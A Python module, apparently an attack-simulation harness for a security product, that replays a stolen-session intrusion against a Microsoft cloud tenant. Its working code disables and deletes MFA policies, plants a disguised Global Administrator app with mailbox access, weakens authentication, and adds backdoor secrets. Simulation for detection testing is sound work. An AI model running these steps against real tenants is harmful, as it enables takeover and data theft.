"""What an intruder does with a stolen session, told to the cloud over the same HTTP API that everybody uses."""

import time
from collections.abc import Callable
from dataclasses import dataclass, field
from typing import Any

import requests

from lavawall.emulator.permissions import GLOBAL_ADMINISTRATOR, GRAPH_APP_ID

PUBLIC_CLIENT = "14d82eec-204b-4c2f-b7e8-296a70dab67e"
STOLEN_PERMISSIONS = ("Mail.ReadWrite", "Files.ReadWrite.All")
WEAK_COMBINATIONS = ["password, sms", "password, voice"]
MOST_ATTEMPTS = 8
Json = dict[str, Any]


@dataclass(frozen=True)
class AttackStep:
    """One thing the intruder did, with the ids of what was touched."""

    number: int
    title: str
    objects: dict[str, str] = field(default_factory=dict)


Report = Callable[[AttackStep], None]


class AttackError(Exception):
    """The scenario could not be played; the message says which request was refused and why."""


class StolenSession:
    """A user's session in the hands of an intruder: Graph calls with that user's token from the intruder's address."""

    def __init__(
        self,
        *,
        login_url: str,
        graph_url: str,
        directory_id: str,
        user: str,
        password: str,
        ip: str,
        verify: str,
    ) -> None:
        self._base = f"{graph_url.rstrip('/')}/v1.0"
        self._http = requests.Session()
        self._http.trust_env = False
        self._http.verify = verify
        self._http.headers["User-Agent"] = "python-requests"
        answer = self._http.post(
            f"{login_url.rstrip('/')}/{directory_id}/oauth2/v2.0/token",
            data={
                "grant_type": "password",
                "client_id": PUBLIC_CLIENT,
                "scope": f"{graph_url.rstrip('/')}/.default",
                "username": user,
                "password": password,
            },
            headers={"X-Forwarded-For": ip},
            timeout=30,
        )
        if answer.status_code != 200:
            raise AttackError(f"The session could not be stolen: {answer.json()['error_description']}")
        self._http.headers["Authorization"] = f"Bearer {answer.json()['access_token']}"

    def send(self, method: str, path: str, body: Json | None = None) -> Json:
        for _ in range(MOST_ATTEMPTS):
            answer = self._http.request(method, f"{self._base}{path}", json=body, timeout=30)
            if answer.status_code != 429:
                break
            time.sleep(float(answer.headers.get("Retry-After", "1")))
        if answer.status_code >= 400:
            raise AttackError(f"{method} {path} was refused with {answer.status_code}: {answer.text}")
        found: Json = answer.json() if answer.content else {}
        return found

    def list(self, path: str) -> list[Json]:
        page = self.send("GET", path)
        items: list[Json] = page["value"]
        while "@odata.nextLink" in page:
            page = self.send("GET", page["@odata.nextLink"].removeprefix(self._base))
            items += page["value"]
        return sorted(items, key=lambda item: str(item.get("displayName", "")))

    def close(self) -> None:
        self._http.close()


def _first(items: list[Json], wanted: Callable[[Json], bool], what: str) -> Json:
    found = next((item for item in items if wanted(item)), None)
    if found is None:
        raise AttackError(f"The tenant has {what} for the intruder to abuse: choose another tenant.")
    return found


def _asks_for_mfa(policy: Json) -> bool:
    controls = policy.get("grantControls") or {}
    return policy["state"] == "enabled" and "mfa" in (controls.get("builtInControls") or [])


def _users_of(policy: Json) -> Json:
    users: Json = policy["conditions"].get("users") or {}
    return users


def disable_admin_mfa(session: StolenSession, _user: str) -> AttackStep:
    policies = session.list("/identity/conditionalAccess/policies")
    policy = _first(
        policies,
        lambda each: _asks_for_mfa(each) and bool(_users_of(each).get("includeRoles")),
        "no admin MFA policy",
    )
    session.send("PATCH", f"/identity/conditionalAccess/policies/{policy['id']}", {"state": "disabled"})
    return AttackStep(1, f"Disabled '{policy['displayName']}'", {"conditionalAccessPolicy": policy["id"]})


def exclude_accomplice(session: StolenSession, user: str) -> AttackStep:
    policies = session.list("/identity/conditionalAccess/policies")
    policy = _first(
        policies,
        lambda each: _asks_for_mfa(each) and "All" in (_users_of(each).get("includeUsers") or []),
        "no MFA policy for everybody",
    )
    people = [each for each in session.list("/users") if each["userPrincipalName"].lower() != user.lower()]
    accomplice = _first(
        people, lambda each: "emergency" not in each["userPrincipalName"], "no second account"
    )
    users = _users_of(policy)
    users["excludeUsers"] = [*(users.get("excludeUsers") or []), accomplice["id"]]
    conditions = {**policy["conditions"], "users": users}
    session.send("PATCH", f"/identity/conditionalAccess/policies/{policy['id']}", {"conditions": conditions})
    return AttackStep(
        2,
        f"Excluded {accomplice['displayName']} from '{policy['displayName']}'",
        {"conditionalAccessPolicy": policy["id"], "user": accomplice["id"]},
    )


def delete_policy_and_location(session: StolenSession, _user: str) -> AttackStep:
    policies = session.list("/identity/conditionalAccess/policies")
    locations = {each["id"]: each for each in session.list("/identity/conditionalAccess/namedLocations")}

    def used_by(policy: Json) -> set[str]:
        places = policy["conditions"].get("locations") or {}
        return {*(places.get("includeLocations") or []), *(places.get("excludeLocations") or [])} & set(
            locations
        )

    def alone(policy: Json) -> bool:
        others = [used_by(each) for each in policies if each["id"] != policy["id"]]
        return policy["state"] == "enabled" and bool(used_by(policy).difference(*others))

    policy = _first(policies, alone, "no policy with a location of its own")
    others = [used_by(each) for each in policies if each["id"] != policy["id"]]
    location = locations[min(used_by(policy).difference(*others))]
    session.send("DELETE", f"/identity/conditionalAccess/policies/{policy['id']}")
    path = f"/identity/conditionalAccess/namedLocations/{location['id']}"
    if location.get("isTrusted"):
        session.send("PATCH", path, {"@odata.type": location["@odata.type"], "isTrusted": False})
    session.send("DELETE", path)
    session.send("DELETE", f"/identity/conditionalAccess/deletedItems/namedLocations/{location['id']}")
    return AttackStep(
        3,
        f"Deleted '{policy['displayName']}', and '{location['displayName']}', its location, for good",
        {"conditionalAccessPolicy": policy["id"], "namedLocation": location["id"]},
    )


def consent_mail_reader(session: StolenSession, _user: str) -> AttackStep:
    graph = session.list(f"/servicePrincipals?$filter=appId eq '{GRAPH_APP_ID}'")[0]
    app = session.send("POST", "/applications", {"displayName": "Mailbox Migration Helper"})
    principal = session.send("POST", "/servicePrincipals", {"appId": app["appId"]})
    for value in STOLEN_PERMISSIONS:
        role = next(each for each in graph["appRoles"] if each["value"] == value)
        session.send(
            "POST",
            f"/servicePrincipals/{principal['id']}/appRoleAssignments",
            {"principalId": principal["id"], "resourceId": graph["id"], "appRoleId": role["id"]},
        )
    grant = session.send(
        "POST",
        "/oauth2PermissionGrants",
        {
            "clientId": principal["id"],
            "consentType": "AllPrincipals",
            "resourceId": graph["id"],
            "scope": "Mail.ReadWrite Files.ReadWrite.All offline_access",
        },
    )
    return AttackStep(
        4,
        f"Registered and consented '{app['displayName']}' with {' and '.join(STOLEN_PERMISSIONS)}",
        {"application": app["id"], "servicePrincipal": principal["id"], "oAuth2PermissionGrant": grant["id"]},
    )


def crown_service_principal(session: StolenSession, _user: str) -> AttackStep:
    principal = session.list("/servicePrincipals?$filter=displayName eq 'Mailbox Migration Helper'")[0]
    body = {"principalId": principal["id"], "roleDefinitionId": GLOBAL_ADMINISTRATOR, "directoryScopeId": "/"}
    assignment = session.send("POST", "/roleManagement/directory/roleAssignments", body)
    return AttackStep(
        5,
        f"Made '{principal['displayName']}' Global Administrator",
        {"servicePrincipal": principal["id"], "unifiedRoleAssignment": assignment["id"]},
    )


def weaken_authentication(session: StolenSession, _user: str) -> AttackStep:
    session.send(
        "PATCH",
        "/policies/authenticationMethodsPolicy/authenticationMethodConfigurations/Sms",
        {"@odata.type": "#microsoft.graph.smsAuthenticationMethodConfiguration", "state": "enabled"},
    )
    strengths = session.list("/policies/authenticationStrengthPolicies")
    strength = _first(strengths, lambda each: bool(each["policyType"] == "custom"), "no custom strength")
    session.send(
        "POST",
        f"/policies/authenticationStrengthPolicies/{strength['id']}/updateAllowedCombinations",
        {"allowedCombinations": [*strength["allowedCombinations"], *WEAK_COMBINATIONS]},
    )
    return AttackStep(
        6,
        f"Enabled SMS and weakened the strength '{strength['displayName']}'",
        {"authenticationMethodConfiguration": "Sms", "authenticationStrengthPolicy": strength["id"]},
    )


def add_credential(session: StolenSession, _user: str) -> AttackStep:
    applications = session.list("/applications")
    app = _first(
        applications,
        lambda each: not each["displayName"].startswith(("Mailbox", "Lavawall")),
        "no application",
    )
    credential = session.send(
        "POST", f"/applications/{app['id']}/addPassword", {"passwordCredential": {"displayName": "backup"}}
    )
    return AttackStep(
        7,
        f"Added a secret to '{app['displayName']}'",
        {"application": app["id"], "credential": credential["keyId"]},
    )


SCENARIOS: dict[str, tuple[Callable[[StolenSession, str], AttackStep], ...]] = {
    "stolen_global_admin": (
        disable_admin_mfa,
        exclude_accomplice,
        delete_policy_and_location,
        consent_mail_reader,
        crown_service_principal,
        weaken_authentication,
        add_credential,
    ),
}


def run_attack(
    login_url: str,
    graph_url: str,
    directory_id: str,
    user: str,
    password: str,
    ip: str,
    *,
    verify: str,
    report: Report = lambda _step: None,
    scenario: str = "stolen_global_admin",
) -> list[AttackStep]:
    """Plays a scenario with the stolen account and returns what was done, step by step."""
    session = StolenSession(
        login_url=login_url,
        graph_url=graph_url,
        directory_id=directory_id,
        user=user,
        password=password,
        ip=ip,
        verify=verify,
    )
    steps: list[AttackStep] = []
    try:
        for act in SCENARIOS[scenario]:
            step = act(session, user)
            steps.append(step)
            report(step)
    finally:
        session.close()
    return steps
